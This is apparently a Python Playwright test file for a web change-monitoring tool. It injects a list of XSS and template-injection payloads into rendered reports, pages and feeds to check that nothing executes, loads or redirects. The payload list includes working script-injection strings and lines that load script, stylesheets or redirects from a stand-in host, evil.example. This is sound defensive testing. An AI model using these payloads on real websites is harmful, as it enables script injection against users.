"""Pages made of hostile words, in a real browser: nothing in them runs, loads, redirects or restyles anything."""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import replace
from datetime import timedelta
from itertools import count
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser

from judged import write_editions, write_form, write_note, write_verdict
from rows import write_entry, write_row, write_source_row
from statediff.differ import diff
from statediff.judgements import Substitution
from statediff.model import Block, BlockKind, Change, History, Wording
from statediff.reporter import render, render_report
from statediff.reporter.desk.facts import BlameLine, QueueLine, Suggestion, VersionChoice
from statediff.reporter.desk.pages import DeskPages
from statediff.reporter.outlets.asking import Field
from statediff.reporter.outlets.digest import Digest, write_digest
from statediff.reporter.outlets.feed import write_feed
from statediff.reporter.outlets.pages import Pages, count_browse
from statediff.reporter.outlets.phrasing import load_phrases
from statediff.reporter.outlets.rows import Sighting, Stretch, Watched
from statediff.reporter.review import Review
from written import FIRST, Line, come, gone, heading, title, write_change, write_evidence, write_source

pytestmark = pytest.mark.browser

BAITS = (
    "<script>window.hit=1</script>",
    "<script src=http://evil.example/x.js></script>",
    "<img src=x onerror=window.hit=2>",
    "<body onload=window.hit=3>",
    "<details open ontoggle=window.hit=4>",
    "<svg onload=window.hit=5><animate onbegin=window.hit=6 attributeName=x dur=1s>",
    "<svg><script>window.hit=7</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.hit=8>",
    "<a href=javascript:window.hit=9>javascript:window.hit=9</a>",
    "<iframe srcdoc='<script>parent.hit=10</script>'></iframe>",
    "<iframe src=javascript:parent.hit=11></iframe>",
    "<style>*{display:none!important}</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<form action=http://evil.example/><input autofocus onfocus=window.hit=12>",
    "</title></style></script></textarea></pre></table><script>window.hit=13</script>",
    "\"'><script>window.hit=14</script>",
    '\' onmouseover=\'window.hit=15\' " autofocus onfocus="window.hit=16" x="',
    "--><script>window.hit=17</script><!--",
    "]]><script>window.hit=18</script><![CDATA[",
    "{{7*7}}{% for x in y %}${7*7}<%= 7*7 %>#{7*7}",
    "&lt;script&gt;window.hit=19&lt;/script&gt;",
    "\u202eevil\u2066\u0000\u001b[2J\r\n\ud800",
    "<!DOCTYPE html><html><frameset onload=window.hit=20>",
    "<object data=javascript:window.hit=21><embed src=javascript:window.hit=22>",
    "<template><script>window.hit=23</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.hit=24>'>",
)
BAIT = " ".join(BAITS)
AT = FIRST + timedelta(hours=9)
ENGLISH = load_phrases("en")


def hostile_change() -> Change:
    lines: list[Line | str] = [
        title(f"{BAIT} [-{BAIT}-]{{+came {BAIT}+}}"),
        *(f"{bait} [-was {bait}-]{{+is {bait}+}} {bait}" for bait in BAITS),
        gone(BAIT),
        come(BAIT),
        heading(BAIT),
    ]
    return write_change(lines, language=BAIT)


def compared_change() -> Change:
    """What the differ itself makes of such words, tables and quotations among them."""
    old = [Block(kind=BlockKind.ROW, text=f"a\t{bait}", cells=("a", bait)) for bait in BAITS]
    new = [Block(kind=BlockKind.QUOTE, text=f"{bait} more") for bait in BAITS]
    return diff(Wording(title=BAIT, blocks=tuple(old)), Wording(title=BAIT, blocks=tuple(new)), language="en")


def write_reports() -> Iterator[tuple[str, str]]:
    change = hostile_change()
    source = write_source(id="x", url=f"javascript:window.hit=30//{BAIT}", title=BAIT, publisher=BAIT, language=BAIT)
    evidence: Any = write_evidence(change, source=source, published=BAIT, modified=BAIT)
    evidence["sentence"] = BAIT
    capture = evidence["new_capture"]
    evidence["new_capture"] = replace(
        capture,
        final_url=f"data:text/html,{BAIT}",
        robots=BAIT,
        tls=BAIT,
        peer_address=BAIT,
        media_type=BAIT,
        disposition=replace(capture.disposition, reason=BAIT),
    )
    review = Review(
        verdicts=(write_verdict(note=BAIT, reviewer=BAIT, codebook=BAIT),),
        notes=(
            write_note(
                start=0, now=BAIT, annotation=replace(write_note().annotation, quote=BAIT, text=BAIT, author=BAIT)
            ),
        ),
        form=write_form(action=BAIT, token=BAIT, reviewer=BAIT, codebook=BAIT, hidden=((BAIT, BAIT),)),
        state="disputed",
    )
    yield "report", render_report(**evidence, review=review, editions=hostile_editions())
    yield "compared", render(compared_change(), sentence=BAIT)


def hostile_editions() -> Any:
    table = write_editions()
    return replace(
        table,
        title=BAIT,
        sentence=BAIT,
        columns=tuple(replace(one, title=BAIT, language=BAIT, source_id=BAIT) for one in table.columns),
        rows=tuple(replace(one, kind=BAIT, label=BAIT, cells=(BAIT,) * 3, sentence=BAIT) for one in table.rows),
    )


def write_site() -> Iterator[tuple[str, str]]:
    pages = Pages(language="en", base_url="https://watch.example/", generator_version="0.1.0")
    row = write_row(
        source_id="x",
        name=BAIT,
        url=f"javascript:{BAIT}",
        publisher=BAIT,
        language="en",
        sentence=BAIT,
        kinds=(BAIT, "figure"),
        watched=(Watched(phrase=BAIT, has_come=True),),
        events=(BAIT,),
        state="noise",
    )
    rows = [row, replace(row, old=2, new=3, state="open")]
    source = write_source_row(id="x", name=BAIT, url=f"javascript:{BAIT}", publisher=BAIT, came_back=BAIT)
    evidence = write_evidence(hostile_change(), source=write_source(id="x", url=f"javascript:{BAIT}", title=BAIT))
    sighting = Sighting(
        source=source,
        first=FIRST,
        last=AT,
        is_current=True,
        version=1,
        passage=BAIT,
        stretches=(Stretch(first=FIRST, last=AT),),
    )
    history: History = evidence["history"]
    yield "index", pages.write_index(rows, count_browse(rows, [source], [BAIT]), FIRST)
    yield "sources", pages.write_sources([source], FIRST)
    yield "source", pages.write_source(source, history, rows, [source])
    yield "publisher", pages.write_publisher(BAIT, rows, [source])
    yield "phrase", pages.write_phrase(BAIT, [sighting], rows)


def write_desk() -> Iterator[tuple[str, str]]:
    pages = DeskPages(language="en", ways=((BAIT, "x.html"),))
    source = write_source_row(id="x", name=BAIT, publisher=BAIT)
    row = write_row(source_id="x", name=BAIT, sentence=BAIT, publisher=BAIT)
    form = write_form(token=BAIT, reviewer=BAIT, codebook=BAIT, hidden=((BAIT, BAIT),), action="review")
    field = Field(name="q", label=BAIT, value=BAIT, options=((BAIT, BAIT),))
    line = QueueLine(
        key=BAIT,
        rows=(row, row),
        substitution=Substitution(old=BAIT, new=BAIT, key=BAIT),
        review=Review(verdicts=(write_verdict(note=BAIT, reviewer=BAIT),), form=form),
    )
    blame = BlameLine(text=BAIT, kind=BlockKind.PARAGRAPH, version=1, at=FIRST, replaced=BAIT, language=BAIT)
    choices = [VersionChoice(revision=BAIT, label=BAIT, group=BAIT)]
    suggestion = Suggestion(source=source, other=source, reason=BAIT, action="e", token=BAIT)
    yield "queue", pages.write_queue([line, replace(line, substitution=None)], filters=[field])
    yield "blame", pages.write_blame(source, 1, [blame], path="b.html")
    yield (
        "editions",
        pages.write_editions(hostile_editions(), sources=[source], suggestions=[suggestion], path="e.html"),
    )
    yield "compare", pages.write_compare(choices, old=BAIT, new=BAIT)
    yield "search", pages.write_search([field], [], asked=BAIT, problem=BAIT)
    yield "notice", pages.write_notice(BAIT, BAIT, path="n.html")


def write_outlets() -> Iterator[tuple[str, str]]:
    entry = write_entry(change=hostile_change(), sentence=BAIT, name=BAIT, publisher=BAIT, url=f"javascript:{BAIT}")
    failing = write_source_row(name=BAIT, came_back=BAIT)
    digest = Digest(entries=(entry,), left_out=0, since=None, is_first=True, failing=(failing,))
    feed = write_feed(
        [entry],
        ENGLISH,
        name=BAIT,
        feed_key="all",
        link_base=None,
        path="feed.xml",
        page="index.html",
        generator_version="",
    )
    content = re.search(r'<content type="html">(.*?)</content>', feed, re.DOTALL)
    assert content is not None
    unescaped = content[1].replace("&lt;", "<").replace("&gt;", ">").replace("&quot;", '"').replace("&amp;", "&")
    yield "digest", write_digest(digest, "html", ENGLISH)
    yield "feed entry", f"<!doctype html><html><body>{unescaped}</body></html>"


@pytest.mark.parametrize("has_policy", [True, False], ids=["as written", "without its policy"])
def test_no_bait_runs_loads_leads_away_or_hides_anything(chromium: Browser, tmp_path: Path, has_policy: bool) -> None:
    context = chromium.new_context()  # 33: also where the page's own policy is taken away
    page = context.new_page()
    asked: list[str] = []
    page.on("request", lambda request: asked.extend([request.url] * (not request.url.startswith("file:"))))
    numbers, found = count(), {}

    for name, html in (*write_reports(), *write_site(), *write_desk(), *write_outlets()):
        text = html if has_policy else re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", html)
        file = tmp_path / f"{next(numbers)}.html"
        file.write_bytes(text.encode("utf-8", "replace"))
        page.goto(file.as_uri())
        found[name] = page.evaluate(
            """() => ({
                hit: window.hit || 0,
                acting: document.querySelectorAll('img, iframe, object, embed, base, math, frameset, template,'
                    + 'noscript, meta[http-equiv=refresh], svg:not([role=img]), link[rel=stylesheet]').length,
                handlers: [...document.querySelectorAll('*')].filter(one =>
                    [...one.attributes].some(attribute => attribute.name.startsWith('on'))).length,
                schemes: [...document.links].every(one => /^(https?|file):/.test(one.protocol)),
                seen: document.body.innerText.includes('{{7*7}}') && document.body.offsetHeight > 100,
            })"""
        )
        assert page.url == file.as_uri()
    context.close()

    harmless = {"hit": 0, "acting": 0, "handlers": 0, "schemes": True, "seen": True}
    assert found == dict.fromkeys(found, harmless)
    assert asked == []


def test_the_baits_bite_where_nothing_is_escaped(chromium: Browser, tmp_path: Path) -> None:
    file = tmp_path / "raw.html"
    file.write_bytes("".join(f"<div>{bait}</div>" for bait in BAITS[:6]).encode())
    context = chromium.new_context()
    page = context.new_page()

    page.goto(file.as_uri())
    hit = page.evaluate("window.hit || 0")
    context.close()

    assert hit > 0
